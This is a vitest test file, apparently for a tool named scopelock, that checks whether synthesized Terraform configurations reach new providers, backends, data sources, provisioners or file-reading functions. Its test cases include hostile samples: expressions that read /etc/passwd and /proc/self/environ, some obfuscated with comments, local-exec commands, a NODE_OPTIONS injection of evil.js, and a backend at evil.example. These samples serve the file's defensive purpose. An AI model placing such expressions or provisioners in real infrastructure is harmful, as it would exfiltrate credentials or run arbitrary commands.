import { readFileSync } from "node:fs";
import { join } from "node:path";
import { App } from "cdktf";
import { describe, expect, it } from "vitest";
import type { JsonObject } from "../../../src/core/diagnostic";
import { newReaches, reachesOf } from "../../../src/review/configuration/reaches";
import { refusalsOf } from "../../../src/review/configuration/refusals";
import { EverythingStack } from "../../everything-stack";
import { ROOT, temporaryDirectory } from "../../process";

/* What a plan of a synthesized stack would run, read or send credentials to, and the base branch's would not. */

const base = {
  terraform: {
    required_version: ">= 1.11",
    required_providers: { vault: { source: "hashicorp/vault", version: "~> 5.6" } },
    backend: { s3: { bucket: "states", key: "prod" } },
  },
  provider: { vault: [{ address: "https://vault.example.com:8200" }] },
  resource: { vault_policy: { reader: { name: "reader", policy: "" } } },
};
/** The base with members of it replaced, by path. */
function changed(path: string, value: unknown): JsonObject {
  const copy = JSON.parse(JSON.stringify(base));
  const names = path.split("/");
  const last = names.pop() as string;
  let at = copy;
  for (const name of names) {
    at[name] ??= {};
    at = at[name];
  }
  at[last] = value;
  return copy;
}
const kinds = (configuration: JsonObject) => [
  ...new Set(newReaches(configuration, base).map(({ kind }) => kind)),
];

describe("what a synthesized stack reaches and the base branch's does not", () => {
  it.each<[string, string, unknown, string]>([
    ["a provider's address", "provider/vault", [{ address: "https://vault.example.org" }], "provider"],
    [
      "an address beside the old one",
      "provider/vault",
      [...base.provider.vault, { alias: "b", address: "x" }],
      "provider",
    ],
    ["a provider that is not listed", "provider/local", {}, "provider"],
    [
      "another source",
      "terraform/required_providers/vault",
      { source: "acme/vault", version: "~> 5.6" },
      "provider",
    ],
    ["another version", "terraform/required_providers/vault/version", "~> 5.5", "provider"],
    ["one more provider", "terraform/required_providers/http", { source: "hashicorp/http" }, "provider"],
    ["another version of Terraform", "terraform/required_version", ">= 1.11, != 1.16.0", "version"],
    ["any version of Terraform", "terraform/required_version", undefined, "version"],
    [
      "versions in a list of blocks",
      "terraform",
      [base.terraform, { required_version: "1.16.0" }],
      "version",
    ],
    ["another backend", "terraform/backend", { http: { address: "https://evil.example" } }, "backend"],
    ["no backend", "terraform/backend", [], "backend"],
    ["HCP Terraform", "terraform/cloud", { organization: "evil" }, "backend"],
    ["OpenTofu's encryption", "terraform/encryption", { key_provider: { external: {} } }, "part"],
    ["data that runs a program", "data/external/x", { program: ["sh"] }, "data-source"],
    ["data that asks a server", "data/http/x", { url: "https://evil.example" }, "data-source"],
    ["another state", "data/terraform_remote_state/x", { backend: "http" }, "data-source"],
    ["data of a provider that may stay", "data/vault_raft_autopilot_state/x", {}, "data-source"],
    ["data in a check", "check/x", { data: { http: { y: {} } } }, "data-source"],
    [
      "data in lists, as HCL's JSON takes it",
      "data",
      [{ external: [{ x: [{ program: [] }] }] }],
      "data-source",
    ],
    [
      "a provisioner",
      "resource/terraform_data/x",
      { provisioner: [{ "local-exec": { command: "id" } }] },
      "provisioner",
    ],
    [
      "one in lists",
      "resource",
      [{ terraform_data: [{ x: [{ provisioner: { "local-exec": {} } }] }] }],
      "provisioner",
    ],
    ["a connection", "resource/vault_policy/reader/connection", { host: "evil" }, "provisioner"],
    [
      "a provisioner of what is removed",
      "removed",
      [{ from: "a.b", provisioner: [{ "local-exec": {} }] }],
      "provisioner",
    ],
    ["a module", "module/x", { source: "evil/module/x" }, "module"],
    ["an ephemeral resource", "ephemeral", { vault_kv_secret_v2: { x: {} } }, "part"],
    ["an action", "action", { local_command: { x: {} } }, "part"],
    ["a part of a later Terraform", "surprise", {}, "part"],
  ])("has %s", (_, path, value, kind) => {
    expect(kinds(changed(path, value))).toEqual([kind]);
    // What the base branch has itself is approved.
    const own = changed(path, value);
    expect(newReaches(own, own)).toEqual([]);
  });

  it.each([
    '${file("/proc/self/environ")}',
    'x${ base64encode( file ("/etc/passwd") ) }',
    '${file/* hidden */("/etc/passwd")}',
    '${file # hidden\n("/etc/passwd")}',
    '${core::file("/etc/passwd")}',
    '${filebase64("/etc/passwd")}',
    '${filesha256("/etc/passwd")}',
    '${fileset("/", "**")}',
    '${templatefile("/proc/self/environ", {})}',
    "${templatestring(local.x, {})}",
    "${nonsensitive(genesyscloud_oauth_client.x.client_secret)}",
    '${provider::local::direxists("/")}',
    '%{ if file("x") == "" }%{ endif }',
    '$$${file("x")}',
    '$${escaped} ${file("x")}',
    // As scopelock reads the secret that is handed over, but another file.
    '${file("/proc/self/environ")}${file("d/${genesyscloud_oauth_client.c["1"].client_id}")}',
    '${file("d/${each.value.client_id}")}',
    '${file("d/${genesyscloud_oauth_client.c["1"].client_id}/../../environ")}',
    '${file("${var.d}/${genesyscloud_oauth_client.c["1"].client_id}")}',
  ])("has the expression %s, wherever it stands", (expression) => {
    for (const configuration of [
      changed("resource/vault_policy/reader/name", expression),
      changed("resource/vault_policy/reader", [{ list: [[expression]] }]),
      changed("resource/vault_policy/reader/map", { [expression]: 1 }),
      changed("output/x", { value: expression }),
      changed("locals/x", expression),
    ])
      expect(kinds(configuration)).toEqual(["function"]);
  });

  it.each([
    "file(not evaluated)",
    '$${file("as a template has it")}',
    "profile(${var.x}) and my.file(${var.y})",
    '${fileexists("d/.ready")}',
    '${file("../../../.scopelock/handoff/dev/${genesyscloud_oauth_client.c_1["2"].client_id}")}',
  ])("does not have %s", (text) => {
    expect(kinds(changed("resource/vault_policy/reader/name", text))).toEqual([]);
  });

  it("takes of provisioners only that which removes a secret's file", () => {
    const environment = { SCOPELOCK_HANDOFF_FILE: "../d/${each.value.client_id}" };
    const command = `node -e "require('node:fs').rmSync(process.env.SCOPELOCK_HANDOFF_FILE, { force: true })"`;
    const of = (body: object, more: object = {}) =>
      kinds(changed("resource/terraform_data/x", { provisioner: [{ "local-exec": body, ...more }] }));
    expect(of({ command, environment })).toEqual([]);
    for (const [body, more] of [
      [{ command: `${command}; id`, environment }],
      [{ command, environment: { ...environment, NODE_OPTIONS: "--require ./evil.js" } }],
      [{ command, environment: { SCOPELOCK_HANDOFF_FILE: "/etc/passwd" } }],
      [{ command, environment, interpreter: ["sh"] }],
      [{ command, environment, working_dir: "/" }],
      [{ command, environment }, { "remote-exec": {} }],
    ] as const)
      expect(of(body, more)).toEqual(["provisioner"]);
  });

  it("is nothing in what the constructs make, whichever of them are used", () => {
    const temporary = temporaryDirectory();
    const app = new App({ outdir: temporary.path });
    const made = new EverythingStack(app).toTerraform() as JsonObject;
    const own = JSON.parse(JSON.stringify(made)) as JsonObject;
    const left = reachesOf(own).filter(({ kind }) => kind !== "provider" && kind !== "backend");
    temporary.remove();
    expect(left.map(({ kind, at }) => `${kind} ${at}`)).toEqual([]);
  });

  it("is refused with a sentence that names where, and never what", () => {
    const secret = '${file("/secret")}';
    const [refusal] = refusalsOf(newReaches(changed("locals/x", secret), base), "cdk.tf.json");
    expect(refusal).toMatchObject({ id: "synth/function", where: "cdk.tf.json" });
    expect(JSON.stringify(refusal)).toContain("locals.x");
    expect(JSON.stringify(refusal)).not.toContain("/secret");
  });

  it("knows each part of Terraform's language that docs/pipelines.md lists as refused", () => {
    const page = readFileSync(join(ROOT, "docs/pipelines.md"), "utf8");
    const [, listed = ""] = /^`scopelock check-synth` refuses.*?\n\n(.*?)\n\n/ms.exec(page) ?? [];
    const ids = [...listed.matchAll(/`(synth\/[a-z-]+)`/g)].map(([, id]) => id);
    expect(ids.sort()).toEqual(
      [
        "synth/backend",
        "synth/data-source",
        "synth/function",
        "synth/module",
        "synth/provider",
        "synth/provisioner",
        "synth/unknown-part",
        "synth/version",
      ].sort(),
    );
  });
});
